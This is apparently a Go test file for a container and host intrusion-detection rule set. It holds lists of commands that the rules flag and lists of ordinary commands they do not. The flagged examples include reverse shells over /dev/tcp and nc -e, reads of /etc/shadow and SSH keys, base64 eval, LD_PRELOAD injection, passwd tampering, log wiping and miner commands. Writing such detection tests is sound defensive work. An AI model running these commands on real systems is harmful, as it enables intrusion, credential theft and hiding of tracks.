package detect

import (
	"fmt"
	"path"
	"slices"
	"strings"
	"testing"

	"github.com/tsboot/tsboot/watch/event"
)

// ran is the event of a command line, whose words have no spaces, or of one whose last word is what follows " -c ".
func ran(container *event.Container, line string) *event.Event {
	before, script, found := strings.Cut(line, " -c ")
	args := strings.Fields(before)
	if found {
		args = append(args, "-c", script)
	}
	e := scp(container)
	e.Process.Executable, e.Process.Name = "/usr/bin/"+path.Base(args[0]), path.Base(args[0])
	if strings.HasPrefix(args[0], "/") {
		e.Process.Executable = args[0]
	}
	e.Process.Args, e.Process.ArgsCount, e.Process.CommandLine, e.Process.WorkingDirectory = args, len(args), line, "/"
	return e
}

// alertsOf are the ids of the rules that match, in their order.
func alertsOf(rules *Rules, e *event.Event) string {
	var ids []string
	for _, a := range rules.Judge(e) {
		if a.Tswatch.Repeated == 0 {
			ids = append(ids, a.Rule.ID)
		}
	}
	rules.Flush()
	return strings.Join(ids, " ")
}

func builtinRules(t *testing.T, dirs ...string) *Rules {
	t.Helper()
	rules, err := Load(Options{Sets: []string{BaseRuleSet, DockerRuleSet}, Dirs: dirs})
	if err != nil {
		t.Fatal(err)
	}
	return rules
}

// TestKinds has variants of what the built-in rules look for, and what only looks like it. "in" is in a container.
func TestKinds(t *testing.T) {
	t.Parallel()
	rules := builtinRules(t)
	for _, c := range []struct{ in, lines string }{
		{"docker-package-manager", "apt update|apt-get -y install x|dpkg -i x|apk add x|yum install x|dnf5 install x|rpm -i x|pip install x|" +
			"pip3.12 install x|python3 -m pip install x|python3 -mpip install x|npm ci|yarn|gem install x|" +
			"zypper in x|cargo install x|pacman -S x|tdnf install x|bundle install|conda create x|uv pip install x|go get x"},
		{"docker-package-manager docker-network-tool", "apk add --no-cache nmap|apt install netcat-openbsd"},
		{"docker-download", "curl -sSL https://x.example/a|curl x.example|curl -o f 192.0.2.1:80/a|curl --url=ftp://x.example/a|wget -qO- x.example|" +
			"curl [2001:db8::1]/a|wget -i list|curl -K config|curl HTTP://X.EXAMPLE|curl http://127.evil.example/|curl http://localhost.evil.example/|" +
			"curl http://localhost@x.example/|curl -x http://127.0.0.1:1 http://x.example/|wget mirror/a|curl mirror|curl -sSLo f mirror:8080/a|" +
			"wget -nv mirror|wget -O - mirror|wget --header x mirror|curl -H x:y --data-raw z mirror|curl -- mirror|curl -4 db|" +
			"curl --url mirror/a|aria2c x.example"},
		{"docker-remote-copy-out", "scp f h:|scp -r -P 22 d u@h:/x|/usr/bin/scp h:f .|scp f scp://h/x|scp f u@[fe80::1]:x|sftp u@h|sftp -b f h|" +
			"rsync -a x h:y|rsync -a x h::mod|rsync -a rsync://h/mod x|ftp h|tftp h|ssh u@h tar xf -|ssh u@h cat > x|dbclient h dd of=x"},
		{"docker-download docker-remote-copy-out", "curl -T x ftp://h/|curl -sSfT x http://h/|wget --post-file=x http://h/"},
		{"", "scp a b|scp ./a:b c|scp /a:b /c|sftp|sftp -h|rsync -a /a /b|rsync --version|rsync -a ./a:b /c|rsync --chown=a:b /a /b|" +
			"npm start|npm run build|yarn start|python3 app.py|curl --version|curl|curl http://localhost/health|curl -f http://127.0.0.1:80|" +
			"curl http://[::1]/|curl localhost:80/health|curl -o out.json localhost/health|curl -fsS -o /dev/null localhost|wget -qO- localhost:8080/health|" +
			"wget --version|wget --help|wget -V|curl -h all|curl --help|curl -H x.example LOCALHOST|curl 127.1|" +
			"wget -O x.tar.gz localhost/x|curl -u ann:x.y -X PUT -d @a.json localhost|aria2c --version|aria2c -d dir localhost:80/a|" +
			"wget --spider http://0.0.0.0:80/|curl file:///etc/hostname|" +
			"bash -lc -c ls|sh -c ls|mount|ping h|dig x|cat /var/log/syslog"},
		{"docker-interactive-shell", "bash|sh|bash -i|bash -l|zsh --login|bash -i -o vi"},
		{"docker-namespace-left", "nsenter -t 1 -m|unshare -r|mount /dev/sda1 /mnt|chroot /host sh|pivot_root . old"},
		{"docker-runtime-used-inside", "docker ps|crictl ps|podman ps|runc list|curl --unix-socket /host/run/docker.sock http://localhost/info"},
		{"docker-runtime-used-inside docker-network-tool", "socat - unix-connect:/run/containerd/containerd.sock|nc -U /var/run/docker.sock"},
		{"docker-orchestrator-client", "kubectl exec -it p -- sh|helm list|oc login"},
		{"docker-identity-file-written", "sh -c echo x::0:0::/:/bin/sh >> /etc/passwd|sh -c cat k >>~/.ssh/authorized_keys|tee -a /host/etc/sudoers.d/x"},
		{"docker-network-tool", "nmap h|tcpdump -i any|nc -z h 22|nc -z localhost 1-99|nc localhost 80"},
		{"base-setuid-set", "chmod u+s x|chmod 4755 x|chmod 06711 x|chmod +s x|chmod ug=rxs x|chmod a+xs x|chmod go-w,u+s x|install -m4755 a b|setcap cap_setuid+ep x"},
		{"base-secrets-read", "cat /etc/shadow|head -1 /host/etc/shadow|grep root /etc/gshadow|cp /etc/shadow x|tar cz /etc/shadow|" +
			"cat /root/.ssh/id_ed25519|base64 .ssh/id_rsa|less /home/ann/.aws/credentials|cat .kube/config|cat /etc/kubernetes/admin.conf"},
		{"base-encoded-script", "sh -c eval \"$(base64 -d <<< aWQ=)\"|bash -c . x; source <(base64 --decode x)|" +
			"bash -c bash <(base64 -d x)|python3 -c import base64;exec(base64.b64decode('aWQ='))|php -c eval(base64_decode('aWQ='))"},
		{"base-preload-set", "env LD_PRELOAD=/tmp/x.so ls|sh -c LD_PRELOAD=./x.so ls|sh -c echo /x.so>/etc/ld.so.preload|cp x /etc/ld.so.preload"},
		{"docker-miner", "xmrig|xmrig-6.21|./x -o stratum+tcp://p:1|x --donate-level=1|x -o gulf.moneroocean.stream:10128"},
		{"base-reverse-shell", "sh -c bash -i >& /dev/tcp/192.0.2.1/44 0>&1|bash -c exec 5<>/dev/tcp/h/1; cat <&5|php -r $s=fsockopen(1);exec(/bin/sh)"},
		{"base-reverse-shell docker-network-tool", "nc -e /bin/sh h 1|nc h 1 -e/bin/sh|ncat --sh-exec x h|socat exec:sh tcp:h:1"},
		{"base-exec-from-temporary-directory", "/usr/bin/bash -ex /tmp/x.sh|/bin/busybox sh /tmp/x.sh|/usr/bin/python3 -u /dev/shm/x.py|/tmp/x|/dev/shm/.x/y|/usr/bin/dash /tmp/x.sh|/usr/bin/python3.12 /var/tmp/x.py"},
		{"base-logs-cleared", "rm -rf /var/log|rm /var/log/wtmp|shred -u /var/log/auth.log|truncate -s 0 /var/log/syslog|sed -i /x/d /var/log/secure|" +
			"dd if=/dev/zero of=/var/log/messages|sh -c unset HISTFILE|sh -c > /var/log/auth.log|journalctl --vacuum-time=1s|dmesg -C"},
		{"base-process-traced", "gdb -p 1|strace -fp 1|strace -p1|gdb --pid=1"},
		{"docker-network-tool", "telnet h 25"},
		{"base-account-added", "useradd x|adduser x|usermod -aG sudo x|groupadd x|gpasswd -a x sudo"},
		{"base-crontab-changed", "crontab -e|crontab -|crontab f|crontab -u x f|sh -c echo x >>/etc/crontab|bash -c cat j > '/var/spool/cron/x'|tee /etc/cron.d/x"},
		{"base-kernel-module-loaded", "insmod x.ko|modprobe x"},
	} {
		for line := range strings.SplitSeq(c.lines, "|") {
			if got := alertsOf(rules, ran(nginx(), line)); got != inOrder(rules, c.in) {
				t.Errorf("%s: %q, want %q", line, got, c.in)
			}
		}
	}
	if failed := rules.Failed(); len(failed) > 0 {
		t.Errorf("failed: %v", failed)
	}
}

// TestQuietContainer is what containers do when all is well: their start, health checks, jobs and migrations.
func TestQuietContainer(t *testing.T) {
	t.Parallel()
	rules := builtinRules(t)
	for _, line := range []string{
		"/docker-entrypoint.sh nginx -g daemon", "/usr/bin/dash -e /app/start.sh", "bash -l /app/start.sh", "bash --login /app/start.sh", "sh -c exec node server.js",
		"bash -lc -c python app.py", "tini -- node server.js", "gosu postgres postgres", "chroot --userspec=1000:0 / /usr/local/bin/start.sh",
		"sh -c curl -f http://localhost/ || exit 1", "curl -fsS http://127.0.0.1:9200/_cluster/health", "wget -q --spider http://localhost/", "pg_isready -U postgres",
		"redis-cli ping", "nc -z localhost 5432", "nc -vz 127.0.0.1 80", "apk manifest nginx", "dpkg --print-architecture", "dpkg-query --show nginx", "rpm --eval %{dist}",
		"npm start", "npm run build", "yarn start", "/usr/bin/node /usr/bin/yarn start", "bundle exec puma", "conda run -n base python app.py", "pipenv run gunicorn app:app",
		"poetry run app", "uv run app.py", "go build ./...", "python3 manage.py migrate", "python3 -m http.server", "python3 -m json.tool /tmp/x.json",
		"chmod 755 /app/run", "chmod +x x", "chmod g+s d", "chmod 2775 d", "chmod 1777 /tmp", "chmod -R u=rwX,go=rX users", "install -m 0755 a b",
		"setcap cap_net_bind_service=+ep x", "cat /etc/passwd", "cat /root/.ssh/id_rsa.pub", "cat /root/.ssh/known_hosts", "ls -l /var/run/docker.sock",
		"env LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server", "sh -c export LD_PRELOAD=/usr/local/lib/libjemalloc.so; exec puma",
		"sh -c echo $KEY | base64 -d > /run/key", "sh -c KEY=$(echo $K | base64 -d); exec app", "base64 -d", "sh -c kubectl get secret x | base64 -d | jq .",
		"python3 -c import base64; print(base64.b64decode('aWQ='))", "sh -c cat /etc/passwd > /tmp/x", "sh -c cat /etc/crontab > /tmp/x", "crontab -l",
		"ssh git@x.example git-upload-pack a", "ssh -V", "git clone https://x.example/a", "rsync -a /src/ /dst/", "tar xzf a.tgz", "cp /etc/nginx/nginx.conf /tmp/",
	} {
		if got := alertsOf(rules, ran(nginx(), line)); got != "" {
			t.Errorf("%s: %s", line, got)
		}
	}
}

// inOrder are the ids in the order of the rules.
func inOrder(rules *Rules, ids string) string {
	var all []string
	for _, r := range rules.rules {
		if slices.Contains(strings.Fields(ids), r.id) {
			all = append(all, r.id)
		}
	}
	return strings.Join(all, " ")
}

// TestQuietHost is an ordinary day of a host: cron, logins, an upgrade of packages, containers that start.
func TestQuietHost(t *testing.T) {
	t.Parallel()
	rules := builtinRules(t)
	for _, line := range []string{
		"/usr/bin/dash -c cd / && run-parts --report /etc/cron.hourly", "run-parts --report /etc/cron.hourly", "/usr/sbin/logrotate /etc/logrotate.conf",
		"gzip /var/log/syslog.1", "systemctl kill -s HUP rsyslog.service", "/usr/bin/systemd-tmpfiles --clean", "modprobe -q -- net-pf-10", "modprobe -abq msr",
		"modprobe --show-depends ext4", "sshd -D -R", "bash -i", "sudo apt upgrade", "apt upgrade", "apt-get install curl", "/usr/lib/apt/methods/http",
		"/usr/bin/dpkg --unpack x.deb", "/usr/bin/dash /var/lib/dpkg/info/x.postinst configure", "deb-systemd-invoke restart x.service",
		"cp -p /usr/bin/kmod /var/tmp/mkinitramfs/x", "curl -fsS https://x.example/", "wget https://x.example/", "rsync -a /home /backup", "crontab -l",
		"crontab -u ann -l", "tail -f /var/log/syslog", "rm -f /var/log/app/x.log", "git clone https://x.example/a", "ssh u@h", "docker ps",
		"docker run -d -v /srv/www:/usr/share/nginx/html nginx", "docker run -v /tmp:/usr/share/nginx/html:ro -d nginx", "runc init", "nsenter -t 1 -n ip a",
		"mount /dev/sdb1 /mnt", "nmap -sn 192.0.2.0/24", "kubectl get pods", "ssh u@h uptime", "cp -p /etc/shadow shadow.bak", "cmp -s shadow.bak /etc/shadow",
		"chmod 640 /etc/shadow", "chown root:shadow /etc/shadow", "chroot /mnt update-grub", "nc -z db 5432", "sh -c date >> /var/log/messages", "python3 -c import socket; print(socket.gethostname())",
		"bash -c (echo > /dev/tcp/db/5432) 2>&1", "id ann", "getent passwd", "passwd -S ann", "lsmod",
	} {
		if got := alertsOf(rules, ran(nil, line)); got != "" {
			t.Errorf("%s: %s", line, got)
		}
	}
	unit := scp(nil)
	unit.Event.Action, unit.Event.Type, unit.Tags = "openat", []string{"creation"}, []string{"tswatch"}
	unit.Process.Name, unit.Process.Executable = "dpkg", "/usr/bin/dpkg"
	unit.File = &event.File{Path: "/usr/lib/systemd/system/x.service.dpkg-new"}
	if got := alertsOf(rules, unit); got != "" {
		t.Errorf("a package's unit: %s", got)
	}
}

// TestAllowedDomains: a host that the list has is allowed with any scheme and port, and nothing that only looks like it. The
// list may be long.
func TestAllowedDomains(t *testing.T) {
	t.Parallel()
	list := []string{"good.example", "mirror.example"}
	for i := range 500 {
		list = append(list, fmt.Sprintf("h%d.example", i))
	}
	text := "name: Docker Rule Set\nlists: {allowed-domains: [" + strings.Join(list, ", ") + "]}\n"
	rules := builtinRules(t, write(t, map[string]string{"own.yaml": text}))
	for url, allowed := range map[string]bool{
		"http://good.example/x": true, "https://good.example": true, "https://GOOD.example:8443/x?y": true, "good.example/x": true, "good.example": true,
		"ftp://mirror.example/x": true, "https://good.example/@scope/x": true, "https://h499.example/": true, "--url=https://good.example/": true,
		"http://good.example.evil.example/": false, "http://good.example@evil.example/": false, "http://good.example:x@evil.example/": false,
		"http://evil.example/?u=http://good.example/": false, "http://evil.example/good.example": false, "http://sub.good.example/": false,
		`http://good.example\@evil.example/`: false, "evil.example/good.example": false,
	} {
		if got := alertsOf(rules, ran(nginx(), "curl -O "+url)) == ""; got != allowed {
			t.Errorf("%s: allowed is %v", url, got)
		}
	}
}
